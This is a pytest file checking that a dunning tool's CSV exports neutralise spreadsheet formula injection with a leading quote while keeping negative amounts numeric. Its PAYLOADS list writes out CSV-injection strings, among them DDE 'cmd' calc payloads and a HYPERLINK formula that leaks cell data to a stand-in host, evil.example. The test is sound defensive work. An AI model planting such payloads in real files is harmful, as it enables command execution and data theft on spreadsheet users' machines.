"""Files that are formulas (issue 7, section 5): every CSV dunning writes neutralizes a
cell a spreadsheet would run (OWASP: a leading ``'`` before ``= + - @``, tab, CR); a
negative amount stays a number."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import Ledger
from test_ledger_support import INVOICE_HEADER, load, write_csv

from dunning.cli import main
from dunning.clock import FixedClock
from dunning.db import csvsafe, exports
from dunning.db.connection import write_tx

# the payloads, as they arrive in a note or an ERP file
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1",
    "-1+cmd",
    "-=1",
]
NUMBERS = ["-12.50", "-1234", "12.50", "-1,234.50", "+15145550123"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_quote_and_reads_back_as_text(payload: str):
    buf = io.StringIO()
    csvsafe.writer(buf).writerow(["x", payload, "-12.50", -5])
    assert read(buf.getvalue()) == [["x", "'" + payload, "-12.50", "-5"]]


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number: str):
    assert csvsafe.cell(number) == number


@pytest.mark.parametrize("text", ["Acme", "", "x=1", " =1", "Jean-Paul", "1-2"])
def test_text_that_does_not_start_a_formula_is_untouched(text: str):
    assert csvsafe.cell(text) == text


def test_export_activities_neutralizes_notes(
    ledger: Ledger, clock: FixedClock, db_path: Path, tmp_path: Path
):
    alice = ledger.collector("alice")
    cid = ledger.customer("Acme", collector=alice)
    notes = [*PAYLOADS, "-12.50", "plain"]
    with write_tx(ledger.conn):
        for note in notes:
            ledger.conn.execute(
                "INSERT INTO activities (customer_id, collector_id, at, outcome, note) "
                "VALUES (?, ?, '2026-11-23T14:00:00Z', 'no_answer', ?)",
                (cid, alice, note),
            )
    out = tmp_path / "x.csv"
    assert main(["--db", str(db_path), "export", "activities", "-o", str(out)], clock=clock) == 0
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert [r["note"] for r in rows] == [*("'" + p for p in PAYLOADS), "-12.50", "plain"]


def test_report_aging_csv_neutralizes_names_imported_with_a_leading_tab(
    conn, clock: FixedClock, db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    """Import strips the tab of "\\t=1+1": the stored name is "=1+1", neutralized on export."""
    rows = [
        [f"C{i}", name, f"INV-{i}", "2026-09-01", "2026-10-01", "100.00", "100.00"]
        for i, name in enumerate(["\t=1+1", PAYLOADS[1], "@SUM(A1)", "Acme"])
    ]
    rows.append(["C9", "Credit Co", "CN-1", "2026-09-01", "2026-09-01", "-12.50", "-12.50"])
    path = write_csv(tmp_path / "in.csv", [INVOICE_HEADER, *rows])
    load(conn, path, "invoices", create_customers=True)
    stored = conn.execute("SELECT name FROM customers WHERE external_ref = 'C0'").fetchone()[0]
    assert stored == "=1+1"
    capsys.readouterr()
    base = ["--db", str(db_path), "report", "aging", "--format", "csv"]
    assert main(base, clock=clock) == 0
    got = {r["customer"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert got["C0"]["name"] == "'=1+1"
    assert got["C1"]["name"] == "'" + PAYLOADS[1]
    assert got["C2"]["name"] == "'@SUM(A1)"
    assert got["C3"]["name"] == "Acme"
    assert got["C9"]["credits"] == "-12.50"  # a number: summed by the spreadsheet
    assert float(got["C9"]["net"]) == -12.5


def test_report_metrics_csv_goes_through_the_same_writer(
    ledger: Ledger,
    clock: FixedClock,
    db_path: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
):
    ledger.customer("=1+1", collector=ledger.collector("alice"))
    capsys.readouterr()
    argv = ["--db", str(db_path), "report", "metrics", "--from", "2026-11-01", "--to",
            "2026-11-23", "--format", "csv"]  # fmt: skip
    assert main(argv, clock=clock) == 0
    cells = [c for r in read(capsys.readouterr().out) for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    # a report of several sections: a collector named like a formula (a hostile name
    # that reached the table some other way) is neutralized, amounts stay numbers
    section = exports.Section(
        "money", "money", [exports.Column("collector"), exports.Column("currency"),
                           exports.Column("collected", "money")], [["=1+1", "USD", -1250]],
    )  # fmt: skip
    out = tmp_path / "m.csv"
    exports.write_sections([section], "csv", out)
    assert read(out.read_text(encoding="utf-8"))[1] == ["money", "'=1+1", "USD", "-12.50"]


def test_the_rejects_file_neutralizes_what_it_copies(conn, tmp_path: Path):
    bad = ["C1", '=HYPERLINK("http://x")', "INV-9", "2026-13-01", "2026-10-01", "-12.50", "1"]
    good = ["C2", "Bolt", "INV-3", "2026-09-01", "2026-10-01", "7", "7"]
    path = write_csv(tmp_path / "in.csv", [INVOICE_HEADER, bad, good])
    r = load(conn, path, "invoices", create_customers=True, skip_invalid=True)
    assert r.rejects is not None
    rejects = read(r.rejects.read_text(encoding="utf-8"))
    assert rejects[1][2:] == ["C1", "'=HYPERLINK(\"http://x\")", "INV-9", "2026-13-01",
                              "2026-10-01", "-12.50", "1"]  # fmt: skip
